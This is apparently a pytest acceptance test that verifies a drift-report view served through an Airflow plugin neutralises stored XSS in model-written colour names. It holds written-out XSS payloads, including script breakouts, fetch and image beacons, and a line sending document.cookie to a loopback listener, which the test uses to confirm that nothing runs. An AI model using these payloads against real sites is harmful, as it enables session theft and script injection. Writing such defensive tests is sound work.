"""Acceptance: a model answer carrying a script payload, through the drift pipeline, opened from
the Dresscode view in headless Chromium, runs nothing and reaches nothing.

The model's colour names are free text (30 characters in the schema): one was
``</script><svg onload=alert(1)>``, and Evidently's inline ``<script>`` JSON does not escape
``</script>``. Here the lake holds a window of photos whose items carry such names (some
longer than the schema allows: the lake is not trusted to have been validated), the real
``monitoring.tasks.detect_drift`` builds the frames, runs Evidently, writes the report and logs
it to MLflow (SQLite), and a ``monitoring_decisions`` row points at it. Airflow's real
api-server app, with this repo's plugins folder, is served by uvicorn on loopback; Chromium
logs in with the UI's ``_token`` cookie, opens the view and follows its "HTML report" link.

The payloads try everything a stored XSS would: a dialog, a marker on ``window``, a title
change, image and fetch beacons to a loopback server this test watches, the session cookie.
None may happen. A second test serves a report written *before* the fix (the payload raw in
the page) and checks the sandbox alone keeps it off the Airflow origin.

Runs in CI: ``scripts/install_browser.sh`` installs Debian's chromium and chromium-driver.
Without them the test fails under ``CI`` and is skipped, with a warning, elsewhere.
"""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from dresscode.core import config, lake

PLUGINS = config.REPO_ROOT / "plugins"
DAY = datetime(2026, 5, 10, tzinfo=UTC)
SCRIPT_BREAKOUT = "</script><svg onload=alert(1)>"  # the 30-character colour name
# --- servers ---------------------------------------------------------------------------------


class Beacon:
    """A loopback HTTP server recording every request: a payload that phones home is seen."""

    def __init__(self) -> None:
        hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.hits = hits
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def beacon() -> Iterator[Beacon]:
    server = Beacon()
    yield server
    server.close()


@pytest.fixture(scope="module")
def airflow(airflow_db: Path) -> Iterator[tuple[str, str]]:
    """Airflow's api-server app with the plugin, under uvicorn on loopback: (base URL, JWT)."""
    import uvicorn
    from airflow import plugins_manager, settings
    from airflow.api_fastapi import app as api_app
    from airflow.api_fastapi.app import get_auth_manager
    from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser

    mp = pytest.MonkeyPatch()
    mp.setattr(settings, "PLUGINS_FOLDER", str(PLUGINS))
    _clear_plugin_caches(plugins_manager)
    api_app.purge_cached_app()
    app = api_app.create_app(apps="core")
    token = get_auth_manager().generate_jwt(SimpleAuthManagerUser(username="admin", role="ADMIN"))
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{port}", token
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        sock.close()
        mp.undo()
        _clear_plugin_caches(plugins_manager)
        api_app.purge_cached_app()


def _clear_plugin_caches(plugins_manager: object) -> None:
    for name in dir(plugins_manager):
        fn = getattr(plugins_manager, name)
        if callable(fn) and hasattr(fn, "cache_clear"):
            fn.cache_clear()


@pytest.fixture
def browser(tmp_path: Path, headless_chrome: Any) -> Iterator[object]:
    def leave_dialogs_open(options: Any) -> None:
        # Leave a dialog open instead of dismissing it, so the test can see it.
        options.set_capability("unhandledPromptBehavior", "ignore")

    chrome = headless_chrome(tmp_path / "chromium-profile", adjust=leave_dialogs_open)
    try:
        yield chrome
    finally:
        chrome.quit()


# --- the lake --------------------------------------------------------------------------------


def payloads(port: int) -> list[str]:
    """Colour names a prompt-injected model could answer with; each tries to act on the origin."""
    home = f"//127.0.0.1:{port}"
    # No payload may open an element whose content is raw text (<iframe>, <textarea>,
    # <noscript>…): it would swallow the payloads after it and hide them from the test.
    return [
        SCRIPT_BREAKOUT,
        "</script><svg onload=pwn=1>",
        "</ScRiPt ><script>pwn=3</script>",
        "</script><script>document.title='pwned'</script>",
        f"</script><img src={home}/img>",
        f"</script><svg onload=fetch('{home}/fetch')>",
        f"</script><svg onload=fetch('{home}/c?'+document.cookie)>",
    ]


def _manifest(key: str, sha: str, at: datetime) -> dict:
    return {
        "upload_key": key,
        "user_id": key.split("/")[0],
        "upload_id": "p",
        "status": "accepted",
        "raw_sha256": None,
        "image_sha256": sha,
        "reason_code": None,
        "reason": None,
        "source_format": "JPEG",
        "source_bytes": 2_000_000 + 1000 * (hash(sha) % 97),
        "source_width": 4000,
        "source_height": 3000,
        "width": 768,
        "height": 576,
        "brightness": 120.0 + hash(sha) % 13,
        "prompt_version": 2,
        "n_items": 1,
        "model_called": False,
        "attempt": 1,
        "run_id": "scheduled",
        "processed_at": at.isoformat(timespec="milliseconds"),
    }


def _photos(start: datetime, colors: list[str], prefix: str) -> None:
    rows, items = [], []
    for i, color in enumerate(colors):
        key, sha = f"{prefix}{i}/p.jpg", f"{prefix}-{i}"
        rows.append(_manifest(key, sha, start + timedelta(minutes=7 * i)))
        items.append(
            {
                "item_id": f"{sha}-top",
                "user_id": f"{prefix}{i}",
                "image_sha256": sha,
                "upload_key": key,
                "prompt_version": 2,
                "category": "top",
                "color_names": [color, "white"],
            }
        )
    lake.write_parquet("manifests", start.date(), f"{prefix}-batch", rows)
    lake.write_parquet("wardrobe_items", start.date(), f"{prefix}-items", items)


def _decision(report: str) -> None:
    row = {
        "run_id": "scheduled__2026-05-10",
        "window_start": DAY.isoformat(),
        "window_end": (DAY + timedelta(days=1)).isoformat(),
        "branch": "drift_detected",
        "reasons": json.dumps(["primary_color drifted"]),
        "drifted_columns": json.dumps(["primary_color"]),
        "drift_report": report,
        "action": "reevaluate",
        "outcome": "{}",
        "decided_at": (DAY + timedelta(days=1, hours=1)).isoformat(),
    }
    lake.write_parquet("monitoring_decisions", DAY.date(), "decision", [row])


@pytest.fixture
def hostile_report(
    mlflow_uri: str, monkeypatch: pytest.MonkeyPatch, beacon: Beacon
) -> tuple[str, list[str]]:
    """The drift report of a window whose model answers carry payloads, made by the real
    monitoring task, with the decision that links it: (its lake URI, the payloads)."""
    from dresscode.monitoring import tasks

    monkeypatch.setenv("DRESSCODE_DRIFT_MIN_ROWS", "20")
    config.get_settings.cache_clear()
    hostile = payloads(beacon.port)
    _photos(DAY - timedelta(days=3), ["navy", "black", "white"] * 20, "r")
    _photos(DAY, [hostile[i % len(hostile)] for i in range(42)] + ["navy"] * 18, "c")

    verdict = tasks.detect_drift(
        {"start": DAY.isoformat(), "end": (DAY + timedelta(days=1)).isoformat()},
        "scheduled__2026-05-10T00:00:00+00:00",
    )

    assert verdict["report"] and "primary_color" in verdict["moved"]
    _decision(verdict["report"])
    return verdict["report"], hostile


# --- the tests -------------------------------------------------------------------------------


def _open_report_from_the_view(chrome: object, base: str, token: str) -> str:
    """Log in with the UI's cookie, open the view, follow its report link; the report's URL."""
    from selenium.webdriver.common.by import By

    chrome.get(f"{base}/dresscode/api/prompts")  # any page of the origin, to set its cookie on
    chrome.add_cookie({"name": "_token", "value": token, "path": "/"})
    chrome.get(f"{base}/dresscode/")
    link = chrome.find_element(By.LINK_TEXT, "HTML report")
    url = link.get_attribute("href")
    link.click()
    return url


def _no_dialog(chrome: object, seconds: float = 2.0) -> bool:
    from selenium.common.exceptions import TimeoutException
    from selenium.webdriver.support import expected_conditions
    from selenium.webdriver.support.ui import WebDriverWait

    try:
        WebDriverWait(chrome, seconds).until(expected_conditions.alert_is_present())
    except TimeoutException:
        return True
    return False


def test_a_script_payload_in_a_model_colour_runs_nothing_from_the_drift_report(
    airflow: tuple[str, str], hostile_report: tuple[str, list[str]], beacon: Beacon, browser
) -> None:
    from selenium.webdriver.support.ui import WebDriverWait

    from dresscode.local import leaks

    began = time.monotonic()
    base, token = airflow
    report_uri, hostile = hostile_report
    beacon.hits.clear()

    url = _open_report_from_the_view(browser, base, token)

    assert "/dresscode/drift-report/2026-05-10/" in url
    assert _no_dialog(browser), "a payload opened a dialog on the Airflow origin"
    # The report itself works: Evidently's scripts draw its charts (in an opaque origin).
    WebDriverWait(browser, 60).until(
        lambda b: b.execute_script("return document.querySelectorAll('svg').length") > 5
    )
    time.sleep(1.0)  # give image and fetch beacons time to land
    state = browser.execute_script(
        "return {pwn: typeof window.pwn, title: document.title, origin: window.origin}"
    )
    assert state["pwn"] == "undefined" and state["title"] != "pwned"
    assert state["origin"] == "null"  # sandboxed: not the Airflow origin
    assert beacon.hits == []

    # The bytes served: sandboxed, not sniffable, and no payload in them.
    served = httpx.get(url, headers={"Authorization": f"Bearer {token}"}, timeout=30)
    assert served.status_code == 200
    policy = served.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox") and "allow-same-origin" not in policy
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    for payload in hostile:
        assert payload not in served.text
    assert "<svg onload" not in served.text and "<img src=//127.0.0.1" not in served.text
    # And the leak scan does not take a real Evidently report for a leak.
    assert leaks.scan_lake_file(Path(lake.storage_path(report_uri).path), "reports") == []
    print(f"browser acceptance: {time.monotonic() - began:.1f}s")


LEGACY = """<!doctype html><html><head><title>Drift report</title></head><body><div id=root></div>
<script>var data = {"primary_color": ["navy", "%s"]};</script></body></html>"""


def test_a_report_written_before_the_fix_is_kept_off_the_airflow_origin(
    airflow: tuple[str, str], mlflow_uri: str, beacon: Beacon, browser
) -> None:
    # What the old writer stored: the payload raw, breaking out of Evidently's inline JSON.
    base, token = airflow
    home = f"//127.0.0.1:{beacon.port}"
    script = (
        "window.ran=1;"
        "try{window.stolen=document.cookie}catch(e){window.stolen='blocked'}"
        f";new Image().src='{home}/img';fetch('{home}/fetch').catch(function(){{}})"
        ";fetch('/dresscode/api/prompts',{credentials:'include'})"
        ".then(function(r){return r.text()}).then(function(t){window.api=t.length})"
        ".catch(function(){window.api='blocked'});alert(1)"
    )
    payload = f'</script><svg onload="{script}"><script>'
    report = lake.table("reports") / "drift" / "date=2026-05-10" / "legacy.html"
    lake.write_bytes(report, (LEGACY % payload).encode())
    _decision(str(report))
    beacon.hits.clear()

    _open_report_from_the_view(browser, base, token)

    assert _no_dialog(browser), "the payload opened a dialog"
    time.sleep(1.5)
    state = browser.execute_script(
        "return {ran: window.ran, stolen: window.stolen, api: window.api, origin: window.origin}"
    )
    # The handler ran, sandboxed: an opaque origin with no cookie, no API, no way out.
    assert state == {"ran": 1, "stolen": "blocked", "api": "blocked", "origin": "null"}
    assert beacon.hits == []
